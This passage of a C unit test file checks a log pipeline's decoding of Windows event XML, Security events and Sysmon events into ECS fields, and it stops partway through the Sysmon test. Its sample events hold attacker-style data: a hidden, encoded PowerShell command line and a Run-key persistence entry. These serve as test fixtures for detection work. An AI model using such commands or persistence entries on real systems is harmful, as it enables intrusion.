/*
 * test_windows.c — unit tests of the Windows event decoders: the event XML
 * decoder (dec_winxml.c), the JSON shapes and the ECS mapping
 * (norm_windows.c), Sysmon for Linux (norm_sysmon_linux.c) and the
 * WinEvtLog syslog lines, always driven through decode_event() as the
 * pipeline drives them.
 *
 * Proves that:
 *  - a one-line <Event> (namespace, single or double quotes, an <?xml?>
 *    declaration, an <Events> wrapper) is detected as "winxml" and gets
 *    every System value as winlog.* (event_id, provider_name/guid, channel,
 *    computer_name, record_id, process.pid, process.thread.id, task,
 *    opcode, keywords, version, level), each <Data Name='X'> as
 *    winlog.event_data.X, unnamed <Data> as param1..., UserData as
 *    winlog.user_data.*, RenderingInfo's Message as message; its time from
 *    SystemTime (7 fraction digits) and host.name from Computer; XML
 *    escapes, character references and CDATA are decoded, in attribute
 *    values too ("&amp;" is "&", "&amp;#38;" stays "&#38;");
 *  - hostile XML is refused and kept raw with the reason and column: a DTD
 *    (external entity / XXE, billion laughs), a truncated or malformed
 *    event, a root that is not <Event>, an event over 1 MiB; truncating a
 *    real event at every length never crashes and never loses the line;
 *    thousands of <Data> stay within the field bound;
 *  - the Security mapping: 4624/4625 (target user, source.ip as an IP,
 *    source.port, logon type name, hex process id, failure status, sub
 *    status and reason, outcome), 4634, 4648 (user.effective), 4672
 *    (subject), 4688 (process and parent from hex ids, command line,
 *    effective user), 4720/4740 (user.target), 4728/4732 (group.*,
 *    user.target from the member DN or SID), 4768/4769/4771/4776 (outcome
 *    by status), 4781 (user.changes.name), 5156/5157 (WFP connection),
 *    1102 (user from UserData), 7036 (unnamed data), audit keywords to
 *    event.outcome; Sysmon 1 (process, parent, hashes, PE, user, rule
 *    name and ATT&CK technique), 3 (network), 11 and 23 (file.*), 13
 *    (registry.*), 22 (dns.question.name, response code);
 *  - the JSON shapes — Winlogbeat, EVTX-to-JSON (with #attributes and
 *    _attributes, integer values), the Wazuh agent's camelCase (with its
 *    doubled backslashes), NXLog/OTRF flat — are taken by the "windows"
 *    normaliser, get the winlog.* aliases beside their own keys, the
 *    event's own time and computer, and the same ECS fields as XML; other
 *    JSON (an "EventID" without "Channel", Suricata EVE) is left alone;
 *  - Sysmon for Linux inside syslog: the XML is parsed by the "sysmon"
 *    program's normaliser, its SystemTime replaces the yearless syslog
 *    time, the syslog tag's process.name gives way to the event's process;
 *    a non-XML sysmon line is left as it is; malformed XML is tagged;
 *  - a Windows <Event> payload after another program's syslog header is
 *    decoded too, keeping the syslog host and time;
 *  - WinEvtLog lines (OSSEC/Wazuh eventlog format) get channel, event id,
 *    provider, computer and Sysmon's rendered pairs as event data.
 */
#include "decode_fixture.h"

#include <stdlib.h>

#include "decode/norm.h"

/* Not in norm.c's table yet (requested): reached directly. */

/* decode_ok(), and the event must not be a kept failure. */
static struct ym_event *
decode_unfailed(struct fx *f, const char *s)
{
    struct ym_event *ev = decode_ok(f, s);
    const struct ym_field *k = ym_event_get(ev, YM_STR("event.kind"));

    if (k != NULL && ym_str_eqc(k->v.s, "pipeline_error")) {
        const struct ym_field *m = ym_event_get(ev, YM_STR("error.message"));
        fail_msg("tagged as a failure: %.*s", m ? (int)m->v.s.len : 0, m ? m->v.s.p : "");
    }
    return ev;
}

/* A kept failure whose reason contains needle. */
static void
want_failure(struct fx *f, const struct ym_event *ev, int rc, const char *needle)
{
    const struct ym_field *m;

    assert_int_equal(rc, YM_EINVAL);
    want_str(ev, "event.kind", "pipeline_error");
    want_str(ev, "tags", "_parse_failure");
    m = need(ev, "error.message", YM_T_STR);
    if (memmem(m->v.s.p, m->v.s.len, needle, strlen(needle)) == NULL)
        fail_msg("error.message \"%.*s\" lacks \"%s\"", (int)m->v.s.len, m->v.s.p, needle);
    assert_true(f->err.col >= 1);
}

/* ---- event XML ---- */

#define SEC_4624                                                                                   \
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"                \
    "<Provider Name='Microsoft-Windows-Security-Auditing' "                                        \
    "Guid='{54849625-5478-4994-A5BA-3E3B0328C30D}'/><EventID>4624</EventID><Version>2</Version>"   \
    "<Level>0</Level><Task>12544</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords>"  \
    "<TimeCreated SystemTime='2026-11-02T09:14:03.1234567Z'/><EventRecordID>123</EventRecordID>"   \
    "<Correlation ActivityID='{8E0F8A43-1C2B-0001-458A-0F8E2B1CDD01}'/>"                           \
    "<Execution ProcessID='628' ThreadID='4412'/><Channel>Security</Channel>"                      \
    "<Computer>DC01.corp.example</Computer><Security/></System><EventData>"                        \
    "<Data Name='SubjectUserSid'>S-1-5-18</Data><Data Name='SubjectUserName'>DC01$</Data>"         \
    "<Data Name='SubjectDomainName'>CORP</Data><Data Name='SubjectLogonId'>0x3e7</Data>"           \
    "<Data Name='TargetUserSid'>S-1-5-21-3457937927-2839227994-823803824-1104</Data>"              \
    "<Data Name='TargetUserName'>alice</Data><Data Name='TargetDomainName'>CORP</Data>"            \
    "<Data Name='TargetLogonId'>0x8dcdc</Data><Data Name='LogonType'>10</Data>"                    \
    "<Data Name='LogonProcessName'>User32 </Data>"                                                 \
    "<Data Name='AuthenticationPackageName'>Negotiate</Data>"                                      \
    "<Data Name='WorkstationName'>WS042</Data><Data Name='ProcessId'>0x44c</Data>"                 \
    "<Data Name='ProcessName'>C:\\Windows\\System32\\svchost.exe</Data>"                           \
    "<Data Name='IpAddress'>203.0.113.7</Data><Data Name='IpPort'>51122</Data>"                    \
    "<Data Name='ImpersonationLevel'>%%1833</Data></EventData></Event>"

static void
test_xml_security_4624(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev = decode_unfailed(f, SEC_4624);

    assert_true(ym_str_eqc(ev->sourcetype, "winxml"));
    want_ts(ev, utc(2026, 11, 2, 9, 14, 3) + 123 * MS + 456700);
    want_host(ev, "DC01.corp.example");
    /* winlog.*: the System values, typed */
    want_str(ev, "winlog.event_id", "4624");
    want_str(ev, "winlog.provider_name", "Microsoft-Windows-Security-Auditing");
    want_str(ev, "winlog.provider_guid", "{54849625-5478-4994-A5BA-3E3B0328C30D}");
    want_str(ev, "winlog.channel", "Security");
    want_str(ev, "winlog.computer_name", "DC01.corp.example");
    want_int(ev, "winlog.record_id", 123);
    want_int(ev, "winlog.process.pid", 628);
    want_int(ev, "winlog.process.thread.id", 4412);
    want_str(ev, "winlog.task", "12544");
    want_str(ev, "winlog.opcode", "0");
    want_str(ev, "winlog.keywords", "0x8020000000000000");
    want_int(ev, "winlog.version", 2);
    want_int(ev, "winlog.level", 0);
    want_str(ev, "winlog.activity_id", "{8E0F8A43-1C2B-0001-458A-0F8E2B1CDD01}");
    /* event data, kept as they are (the trailing space too) */
    want_str(ev, "winlog.event_data.TargetUserName", "alice");
    want_str(ev, "winlog.event_data.LogonProcessName", "User32 ");
    want_str(ev, "winlog.event_data.ProcessId", "0x44c");
    want_str(ev, "winlog.event_data.ImpersonationLevel", "%%1833");
    /* ECS */
    want_str(ev, "event.kind", "event");
    want_str(ev, "event.code", "4624");
    want_str(ev, "event.provider", "Microsoft-Windows-Security-Auditing");
    want_str(ev, "event.action", "logged-in");
    want_str(ev, "event.category", "authentication");
    want_str(ev, "event.type", "start");
    want_str(ev, "event.outcome", "success");
    want_str(ev, "event.dataset", "windows.security");
    want_str(ev, "event.module", "windows");
    want_str(ev, "observer.vendor", "Microsoft");
    want_str(ev, "observer.product", "Windows");
    want_str(ev, "log.level", "information");
    want_str(ev, "user.name", "alice");
    want_str(ev, "user.domain", "CORP");
    want_str(ev, "user.id", "S-1-5-21-3457937927-2839227994-823803824-1104");
    want_ip(ev, "source.ip", "203.0.113.7");
    want_int(ev, "source.port", 51122);
    want_str(ev, "source.domain", "WS042");
    want_str(ev, "winlog.logon.type", "RemoteInteractive");
    want_str(ev, "winlog.logon.id", "0x8dcdc");
    want_int(ev, "process.pid", 0x44c);
    want_str(ev, "process.executable", "C:\\Windows\\System32\\svchost.exe");
    want_str(ev, "process.name", "svchost.exe");
    want_unique(ev);
}

static void
test_xml_security_4625_failure(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev = decode_unfailed(
        f,
        "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System>"
        "<Provider Name=\"Microsoft-Windows-Security-Auditing\" "
        "Guid=\"{54849625-5478-4994-A5BA-3E3B0328C30D}\"/>"
        "<EventID>4625</EventID><Version>0</Version><Level>0</Level><Task>12544</Task>"
        "<Opcode>0</Opcode><Keywords>0x8010000000000000</Keywords>"
        "<TimeCreated SystemTime=\"2026-11-02T09:15:00.000Z\"/><EventRecordID>124</EventRecordID>"
        "<Correlation/><Execution ProcessID=\"628\" ThreadID=\"4412\"/><Channel>Security</Channel>"
        "<Computer>WS042.corp.example</Computer><Security/></System><EventData>"
        "<Data Name=\"SubjectUserSid\">S-1-0-0</Data><Data Name=\"SubjectUserName\">-</Data>"
        "<Data Name=\"TargetUserSid\">S-1-0-0</Data><Data "
        "Name=\"TargetUserName\">administrator</Data>"
        "<Data Name=\"TargetDomainName\"></Data><Data Name=\"Status\">0xc000006d</Data>"
        "<Data Name=\"FailureReason\">%%2313</Data><Data Name=\"SubStatus\">0xC000006A</Data>"
        "<Data Name=\"LogonType\">3</Data><Data Name=\"ProcessId\">0x0</Data>"
        "<Data Name=\"ProcessName\">-</Data><Data Name=\"IpAddress\">2001:db8::7</Data>"
        "<Data Name=\"IpPort\">0</Data></EventData></Event>");

    want_str(ev, "event.action", "logon-failed");
    want_str(ev, "event.outcome", "failure");
    want_str(ev, "user.name", "administrator");
    want_none(ev, "user.domain"); /* empty */
    want_none(ev, "user.id");     /* the null SID */
    want_ip(ev, "source.ip", "2001:db8::7");
    want_int(ev, "source.port", 0);
    want_str(ev, "winlog.logon.type", "Network");
    want_str(ev, "winlog.logon.failure.status",
             "This is either due to a bad username or authentication information");
    want_str(ev, "winlog.logon.failure.sub_status", "User logon with misspelled or bad password");
    want_str(ev, "winlog.logon.failure.reason", "Unknown user name or bad password.");
    want_none(ev, "process.pid");        /* 0x0: no process */
    want_none(ev, "process.executable"); /* "-" */
    want_str(ev, "winlog.event_data.TargetDomainName", "");
    want_unique(ev);
}

static void
test_xml_declaration_wrapper_rendering(void **state)
{
    struct fx *f = *state;
    /* wevtutil qe /f:RenderedXml, wrapped in <Events> with a declaration;
     * the legacy event's <Data> have no names; escapes, a character
     * reference and CDATA. */
    struct ym_event *ev = decode_unfailed(
        f,
        "<?xml version=\"1.0\" encoding=\"utf-8\"?><Events><Event "
        "xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        "<Provider Name='Service Control Manager' Guid='{555908d1-a6d7-4695-8e1e-26931d2012f4}' "
        "EventSourceName='Service &amp; Control &amp;#38; Manager'/><EventID "
        "Qualifiers='16384'>7036</EventID>"
        "<Version>0</Version><Level>4</Level><Task>0</Task><Opcode>0</Opcode>"
        "<Keywords>0x8080000000000000</Keywords><TimeCreated SystemTime='2026-11-02T09:20:01.5Z'/>"
        "<EventRecordID>9</EventRecordID><Correlation/><Execution ProcessID='700' ThreadID='12'/>"
        "<Channel>System</Channel><Computer>web01</Computer><Security/></System><EventData>"
        "<Data>Windows Update &amp; &lt;Medic&gt; &#x41;</Data><Data><![CDATA[stopped]]></Data>"
        "<Binary>770075006100750073007600630000000000</Binary></EventData>"
        "<RenderingInfo Culture='en-US'><Message>The Windows Update service entered the stopped "
        "state.</Message><Level>Information</Level></RenderingInfo></Event></Events>");

    assert_true(ym_str_eqc(ev->sourcetype, "winxml"));
    want_ts(ev, utc(2026, 11, 2, 9, 20, 1) + 500 * MS);
    want_host(ev, "web01");
    want_str(ev, "winlog.event_data.param1", "Windows Update & <Medic> A");
    want_str(ev, "winlog.event_data.param2", "stopped");
    want_str(ev, "winlog.event_data.Binary", "770075006100750073007600630000000000");
    want_str(ev, "winlog.event_source_name", "Service & Control &#38; Manager");
    want_str(ev, "message", "The Windows Update service entered the stopped state.");
    want_str(ev, "event.code", "7036");
    want_str(ev, "event.dataset", "windows.system");
    want_str(ev, "event.action", "service-state-changed");
    want_str(ev, "service.name", "Windows Update & <Medic> A");
    want_str(ev, "service.state", "stopped");
    want_str(ev, "log.level", "information");
    want_unique(ev);
}

static void
test_xml_user_data_1102(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev = decode_unfailed(
        f, "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
           "<Provider Name='Microsoft-Windows-Eventlog' "
           "Guid='{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}'/>"
           "<EventID>1102</EventID><Version>0</Version><Level>4</Level><Task>104</Task><Opcode>0</"
           "Opcode>"
           "<Keywords>0x4020000000000000</Keywords><TimeCreated "
           "SystemTime='2026-11-02T23:59:59.999Z'/>"
           "<EventRecordID>4412</EventRecordID><Correlation/><Execution ProcessID='1012' "
           "ThreadID='3380'/>"
           "<Channel>Security</Channel><Computer>DC01.corp.example</Computer><Security/></System>"
           "<UserData><LogFileCleared "
           "xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>"
           "<SubjectUserSid>S-1-5-21-3457937927-2839227994-823803824-500</SubjectUserSid>"
           "<SubjectUserName>mallory</SubjectUserName><SubjectDomainName>CORP</SubjectDomainName>"
           "<SubjectLogonId>0x1f9a3c</SubjectLogonId><Extra><Depth>2</Depth></Extra>"
           "</LogFileCleared></UserData></Event>");

    want_str(ev, "winlog.user_data.xml_name", "LogFileCleared");
    want_str(ev, "winlog.user_data.SubjectUserName", "mallory");
    want_str(ev, "winlog.user_data.Extra.Depth", "2");
    want_str(ev, "event.action", "audit-log-cleared");
    want_str(ev, "event.category", "iam");
    want_str(ev, "user.name", "mallory");
    want_str(ev, "user.domain", "CORP");
    want_str(ev, "user.id", "S-1-5-21-3457937927-2839227994-823803824-500");
    want_str(ev, "winlog.logon.id", "0x1f9a3c");
    want_str(ev, "event.outcome", "success");
    want_unique(ev);
}

/* Builds a Security event with the given id, keywords and data elements. */
static const char *
sec_event(struct fx *f, const char *id, const char *keywords, const char *data)
{
    char *buf;
    int n = snprintf(NULL, 0, "%s%s%s%s%s%s%s", id, keywords, data, "", "", "", "") + 600;

    buf = arena_alloc(&f->b.arena, (size_t)n);
    assert_non_null(buf);
    snprintf(
        buf, (size_t)n,
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        "<Provider Name='Microsoft-Windows-Security-Auditing' "
        "Guid='{54849625-5478-4994-A5BA-3E3B0328C30D}'/><EventID>%s</EventID><Version>0</Version>"
        "<Level>0</Level><Task>13824</Task><Opcode>0</Opcode><Keywords>%s</Keywords>"
        "<TimeCreated SystemTime='2026-11-02T10:00:00.000Z'/><EventRecordID>1</EventRecordID>"
        "<Correlation/><Execution ProcessID='4' ThreadID='8'/><Channel>Security</Channel>"
        "<Computer>DC01.corp.example</Computer><Security/></System><EventData>%s</EventData>"
        "</Event>",
        id, keywords, data);
    return buf;
}

#define D(name, value) "<Data Name='" name "'>" value "</Data>"
#define SUBJECT                                                                                    \
    D("SubjectUserSid", "S-1-5-21-1-2-3-1104")                                                     \
    D("SubjectUserName", "dadmin") D("SubjectDomainName", "CORP") D("SubjectLogonId", "0x30d5f")
#define OK_KW "0x8020000000000000"
#define FAIL_KW "0x8010000000000000"

static void
test_xml_security_process_4688(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev = decode_unfailed(
        f, sec_event(f, "4688", OK_KW,
                     SUBJECT D("NewProcessId", "0x1a2c")
                         D("NewProcessName",
                           "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
                             D("TokenElevationType", "%%1936") D("ProcessId", "0xe74")
                                 D("CommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgA")
                                     D("TargetUserSid", "S-1-0-0") D("TargetUserName", "-")
                                         D("ParentProcessName", "C:\\Windows\\explorer.exe")));

    want_str(ev, "event.action", "created-process");
    want_str(ev, "event.category", "process");
    want_str(ev, "event.type", "start");
    want_str(ev, "user.name", "dadmin");
    want_str(ev, "winlog.logon.id", "0x30d5f");
    want_int(ev, "process.pid", 0x1a2c);
    want_str(ev, "process.name", "powershell.exe");
    want_str(ev, "process.command_line", "powershell.exe -nop -w hidden -enc SQBFAFgA");
    want_int(ev, "process.parent.pid", 0xe74);
    want_str(ev, "process.parent.executable", "C:\\Windows\\explorer.exe");
    want_str(ev, "process.parent.name", "explorer.exe");
    want_none(ev, "user.effective.name"); /* "-" with the null SID */
    want_unique(ev);

    ev = decode_unfailed(
        f, sec_event(f, "4688", OK_KW,
                     SUBJECT D("NewProcessId", "0x2bc") D("NewProcessName", "C:\\x.exe")
                         D("ProcessId", "0x0") D("TargetUserSid", "S-1-5-21-1-2-3-500")
                             D("TargetUserName", "admin2") D("TargetDomainName", "CORP")));
    want_str(ev, "user.effective.name", "admin2");
    want_str(ev, "user.effective.id", "S-1-5-21-1-2-3-500");
    want_none(ev, "process.parent.pid");
}

static void
test_xml_security_accounts(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev;

    /* 4720: a user created */
    ev =
        decode_unfailed(f, sec_event(f, "4720", OK_KW,
                                     D("TargetUserName", "svc_backup") D("TargetDomainName", "CORP")
                                         D("TargetSid", "S-1-5-21-1-2-3-2201") SUBJECT));
    want_str(ev, "event.action", "added-user-account");
    want_str(ev, "event.outcome", "success"); /* the audit success keyword */
    want_str(ev, "event.category", "iam");
    want_str(ev, "event.type", "user");
    want_str(ev, "user.name", "dadmin");
    want_str(ev, "user.target.name", "svc_backup");
    want_str(ev, "user.target.domain", "CORP");
    want_str(ev, "user.target.id", "S-1-5-21-1-2-3-2201");

    /* 4728: added to a global group, member by DN (an escaped comma) */
    ev = decode_unfailed(
        f, sec_event(f, "4728", OK_KW,
                     D("MemberName", "CN=Doe\\, John,OU=Staff,DC=corp,DC=example")
                         D("MemberSid", "S-1-5-21-1-2-3-2202") D("TargetUserName", "Domain Admins")
                             D("TargetDomainName", "CORP") D("TargetSid", "S-1-5-21-1-2-3-512")
                                 SUBJECT));
    want_str(ev, "event.action", "added-member-to-group");
    want_str(ev, "group.name", "Domain Admins");
    want_str(ev, "group.id", "S-1-5-21-1-2-3-512");
    want_str(ev, "user.target.group.name", "Domain Admins");
    want_str(ev, "user.target.name", "Doe\\, John");
    want_str(ev, "user.target.domain", "corp.example");
    want_str(ev, "user.target.id", "S-1-5-21-1-2-3-2202");
    want_str(ev, "user.name", "dadmin");
    want_unique(ev);

    /* 4732: a local group, member by SID only */
    ev = decode_unfailed(f, sec_event(f, "4732", OK_KW,
                                      D("MemberName", "-") D("MemberSid", "S-1-5-21-1-2-3-2203")
                                          D("TargetUserName", "Administrators")
                                              D("TargetDomainName", "Builtin")
                                                  D("TargetSid", "S-1-5-32-544") SUBJECT));
    want_str(ev, "group.name", "Administrators");
    want_str(ev, "user.target.id", "S-1-5-21-1-2-3-2203");
    want_none(ev, "user.target.name");

    /* 4740: locked out; 4781: renamed */
    ev = decode_unfailed(f, sec_event(f, "4740", OK_KW,
                                      D("TargetUserName", "bob") D("TargetDomainName", "WS042")
                                          SUBJECT));
    want_str(ev, "event.action", "locked-out-user-account");
    want_str(ev, "user.target.name", "bob");
    ev = decode_unfailed(f, sec_event(f, "4781", OK_KW,
                                      D("OldTargetUserName", "Admin")
                                          D("NewTargetUserName", "MainAdmin")
                                              D("TargetDomainName", "CORP") SUBJECT));
    want_str(ev, "user.target.name", "Admin");
    want_str(ev, "user.changes.name", "MainAdmin");

    /* 4672: special privileges, the subject is the user */
    ev = decode_unfailed(
        f, sec_event(f, "4672", OK_KW,
                     SUBJECT D("PrivilegeList", "SeDebugPrivilege\n\t\t\tSeTcbPrivilege")));
    want_str(ev, "event.action", "logged-in-special");
    want_str(ev, "user.name", "dadmin");
    want_str(ev, "winlog.event_data.PrivilegeList", "SeDebugPrivilege\n\t\t\tSeTcbPrivilege");

    /* 4648: explicit credentials */
    ev = decode_unfailed(
        f, sec_event(f, "4648", OK_KW,
                     SUBJECT D("TargetUserName", "svc_sql") D("TargetDomainName", "CORP")
                         D("TargetServerName", "db01.corp.example") D("ProcessId", "0x1f0")
                             D("ProcessName", "C:\\Windows\\System32\\runas.exe")
                                 D("IpAddress", "::1") D("IpPort", "0")));
    want_str(ev, "event.action", "logged-in-explicit");
    want_str(ev, "user.name", "dadmin");
    want_str(ev, "user.effective.name", "svc_sql");
    want_str(ev, "destination.domain", "db01.corp.example");
    want_ip(ev, "source.ip", "::1");
    want_int(ev, "process.pid", 0x1f0);

    /* 4634: logged off */
    ev = decode_unfailed(f, sec_event(f, "4634", OK_KW,
                                      D("TargetUserSid", "S-1-5-90-1") D("TargetUserName", "DWM-1")
                                          D("TargetDomainName", "Window Manager")
                                              D("TargetLogonId", "0x1a0992") D("LogonType", "2")));
    want_str(ev, "event.action", "logged-out");
    want_str(ev, "event.type", "end");
    want_str(ev, "user.name", "DWM-1");
    want_str(ev, "winlog.logon.type", "Interactive");
}

static void
test_xml_security_kerberos_ntlm_wfp(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev;

    ev = decode_unfailed(
        f, sec_event(f, "4768", OK_KW,
                     D("TargetUserName", "dadmin") D("TargetDomainName", "CORP.EXAMPLE")
                         D("TargetSid", "S-1-5-21-1-2-3-1104") D("ServiceName", "krbtgt")
                             D("Status", "0x0") D("IpAddress", "::ffff:10.0.0.12")
                                 D("IpPort", "49273")));
    want_str(ev, "event.action", "kerberos-authentication-ticket-requested");
    want_str(ev, "event.outcome", "success");
    want_str(ev, "user.name", "dadmin");
    want_str(ev, "service.name", "krbtgt");
    want_ip(ev, "source.ip", "10.0.0.12");
    want_int(ev, "source.port", 49273);

    /* 4768 failed: status, whatever the keywords say */
    ev = decode_unfailed(f, sec_event(f, "4768", OK_KW,
                                      D("TargetUserName", "ghost") D("Status", "0x6")
                                          D("IpAddress", "::ffff:10.0.0.13")));
    want_str(ev, "event.outcome", "failure");

    ev = decode_unfailed(f, sec_event(f, "4771", FAIL_KW,
                                      D("TargetUserName", "bob") D("ServiceName", "krbtgt/CORP")
                                          D("Status", "0x18") D("IpAddress", "::ffff:10.0.0.14")
                                              D("IpPort", "50555")));
    want_str(ev, "event.action", "kerberos-preauth-failed");
    want_str(ev, "event.outcome", "failure");
    want_str(ev, "user.name", "bob");

    ev = decode_unfailed(f, sec_event(f, "4776", FAIL_KW,
                                      D("PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0")
                                          D("TargetUserName", "dadmin") D("Workstation", "WIN81")
                                              D("Status", "0xc0000234")));
    want_str(ev, "event.action", "credential-validated");
    want_str(ev, "event.outcome", "failure");
    want_str(ev, "user.name", "dadmin");
    want_str(ev, "source.domain", "WIN81");
    want_str(ev, "winlog.logon.failure.status", "User logon with account locked");

    ev = decode_unfailed(f, sec_event(f, "5157", FAIL_KW,
                                      D("ProcessID", "4") D("Application", "System") D(
                                          "Direction", "%%14592") D("SourceAddress", "198.51.100.9")
                                          D("SourcePort", "40211") D("DestAddress", "10.0.1.10")
                                              D("DestPort", "445") D("Protocol", "6")));
    want_str(ev, "event.action", "network-connection-blocked");
    want_str(ev, "event.category", "network");
    want_str(ev, "event.type", "denied");
    want_str(ev, "event.outcome", "failure");
    want_ip(ev, "source.ip", "198.51.100.9");
    want_int(ev, "source.port", 40211);
    want_ip(ev, "destination.ip", "10.0.1.10");
    want_int(ev, "destination.port", 445);
    want_str(ev, "network.transport", "tcp");
    want_str(ev, "network.direction", "ingress");
    want_int(ev, "process.pid", 4);
    want_str(ev, "process.name", "System");

    /* an id the table does not name: event fields and the subject only */
    ev = decode_unfailed(
        f, sec_event(f, "4799", OK_KW, SUBJECT D("TargetUserName", "Administrators")));
    want_str(ev, "event.code", "4799");
    want_str(ev, "user.name", "dadmin");
    ev = decode_unfailed(f, sec_event(f, "5379", FAIL_KW, SUBJECT));
    want_str(ev, "event.code", "5379");
    want_str(ev, "event.outcome", "failure"); /* from the keywords */
    want_str(ev, "user.name", "dadmin");
    want_none(ev, "event.action");
}

#define SYSMON_HEAD(id)                                                                            \
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"                \
    "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>"    \
    "<EventID>" id "</EventID><Version>5</Version><Level>4</Level><Task>" id "</Task>"             \
    "<Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"                                    \
    "<TimeCreated SystemTime='2026-11-02T11:00:00.000Z'/><EventRecordID>77</EventRecordID>"        \
    "<Correlation/><Execution ProcessID='3308' ThreadID='4008'/>"                                  \
    "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS042.corp.example"          \
    "</Computer><Security UserID='S-1-5-18'/></System><EventData>"
#define SYSMON_TAIL "</EventData></Event>"

static void
test_xml_sysmon(void **state)
{
    struct fx *f = *state;
    struct ym_event *ev;

    ev = decode_unfailed(
        f,
        SYSMON_HEAD("1") D("RuleName", "technique_id=T1059.001,technique_name=PowerShell")
            D("UtcTime", "2026-11-02 11:00:00.000") D(
                "ProcessGuid", "{5aa13a44-0c90-68fc-bf1d-000000004002}") D("ProcessId", "10048")
                D("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
                    D("FileVersion", "10.0.19041.546") D("Description", "Windows PowerShell") D(
                        "Company", "Microsoft Corporation") D("OriginalFileName", "PowerShell.EXE")
                        D("CommandLine", "powershell -enc JABzAD0A") D("CurrentDirectory",
                                                                       "C:\\Users\\alice\\")
                            D("User", "CORP\\alice") D("LogonId", "0x4a5af0")
                                D("Hashes", "SHA1=5A08,MD5=1CB4,SHA256=FBE7,IMPHASH=468A")
                                    D("ParentProcessGuid", "{5aa13a44-0c8f-68fc-be1d-000000004002}")
                                        D("ParentProcessId", "7008")
                                            D("ParentImage", "C:\\Windows\\explorer.exe")
                                                D("ParentCommandLine", "C:\\Windows\\Explorer.EXE")
                                                    SYSMON_TAIL);
    want_str(ev, "event.dataset", "windows.sysmon");
    want_str(ev, "observer.product", "Sysmon");
    want_str(ev, "event.action", "process_creation");
    want_str(ev, "event.category", "process");
    want_str(ev, "event.type", "start");
    want_str(ev, "process.entity_id", "{5aa13a44-0c90-68fc-bf1d-000000004002}");
    want_int(ev, "process.pid", 10048);
    want_str(ev, "process.name", "powershell.exe");
    want_str(ev, "process.command_line", "powershell -enc JABzAD0A");
    want_str(ev, "process.working_directory", "C:\\Users\\alice\\");
    want_int(ev, "process.parent.pid", 7008);
    want_str(ev, "process.parent.name", "explorer.exe");
    want_str(ev, "process.parent.command_line", "C:\\Windows\\Explorer.EXE");
    want_str(ev, "process.hash.sha1", "5A08");
    want_str(ev, "process.hash.md5", "1CB4");
    want_str(ev, "process.hash.sha256", "FBE7");
    want_str(ev, "process.pe.imphash", "468A");
    want_str(ev, "process.pe.original_file_name", "PowerShell.EXE");
    want_str(ev, "user.name", "alice");
    want_str(ev, "user.domain", "CORP");
    want_str(ev, "rule.name", "technique_id=T1059.001,technique_name=PowerShell");
    want_str(ev, "threat.technique.id", "T1059.001");
    want_str(ev, "threat.technique.name", "PowerShell");
    want_str(ev, "winlog.user.identifier", "S-1-5-18");
    want_unique(ev);

    ev = decode_unfailed(
        f,
        SYSMON_HEAD("3") D("RuleName", "-") D("ProcessId", "1672")
            D("Image", "C:\\Users\\itadmin\\AppData\\Local\\paexec.exe") D("User", "CORP\\itadmin")
                D("Protocol", "tcp") D("Initiated", "true") D("SourceIsIpv6", "false")
                    D("SourceIp", "172.20.10.9") D("SourceHostname", "-") D("SourcePort", "49610")
                        D("DestinationIp", "172.20.10.12")
                            D("DestinationHostname", "dc01.corp.example")
                                D("DestinationPort", "135") SYSMON_TAIL);
    want_str(ev, "event.action", "network_connection");
    want_str(ev, "event.category", "network");
    want_ip(ev, "source.ip", "172.20.10.9");
    want_int(ev, "source.port", 49610);
    want_none(ev, "source.domain");
    want_ip(ev, "destination.ip", "172.20.10.12");
    want_int(ev, "destination.port", 135);
    want_str(ev, "destination.domain", "dc01.corp.example");
    want_str(ev, "network.transport", "tcp");
    want_str(ev, "network.direction", "egress");
    want_str(ev, "network.type", "ipv4");
    want_none(ev, "rule.name");

    ev = decode_unfailed(
        f, SYSMON_HEAD("11") D("ProcessId", "10048") D("Image", "C:\\Windows\\system32\\cmd.exe")
               D("TargetFilename", "C:\\Users\\Public\\evil.tar.gz") SYSMON_TAIL);
    want_str(ev, "event.type", "creation");
    want_str(ev, "file.path", "C:\\Users\\Public\\evil.tar.gz");
    want_str(ev, "file.name", "evil.tar.gz");
    want_str(ev, "file.directory", "C:\\Users\\Public");
    want_str(ev, "file.extension", "gz");

    ev = decode_unfailed(f, SYSMON_HEAD("23") D("ProcessId", "820")
                                D("Image", "C:\\Windows\\system32\\svchost.exe")
                                    D("TargetFilename", "C:\\Windows\\Temp\\noext")
                                        D("Hashes", "MD5=5A9B,IMPHASH=0000") SYSMON_TAIL);
    want_str(ev, "event.type", "deletion");
    want_str(ev, "file.name", "noext");
    want_none(ev, "file.extension");
    want_str(ev, "file.hash.md5", "5A9B");

    ev = decode_unfailed(
        f, SYSMON_HEAD("13") D("EventType", "SetValue") D("ProcessId", "3112") D(
               "Image", "C:\\Windows\\regedit.exe")
               D("TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater")
                   D("Details", "C:\\Users\\Public\\u.exe") SYSMON_TAIL);
    want_str(ev, "event.category", "registry");
    want_str(ev, "event.type", "change");
    want_str(ev, "registry.hive", "HKLM");
    want_str(ev, "registry.key", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run");
    want_str(ev, "registry.value", "Updater");
    want_str(ev, "registry.data.strings", "C:\\Users\\Public\\u.exe");

